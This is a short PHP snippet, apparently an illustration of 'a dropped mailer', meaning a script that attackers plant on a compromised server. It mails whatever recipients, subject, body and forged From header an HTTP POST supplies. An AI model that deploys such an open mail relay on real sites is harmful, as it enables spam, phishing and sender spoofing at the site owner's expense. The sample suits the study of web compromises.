<?php
/* What a dropped mailer does: it mails to whom the request names. */
foreach (explode("\n", $_POST['to'] ?? '') as $to) {
    mail(trim($to), $_POST['subject'] ?? '', ($_POST['text'] ?? '') . token(),
         'From: ' . ($_POST['from'] ?? '') . "\r\nX-Mailer: PHP/" . phpversion());
}
echo 'OK';
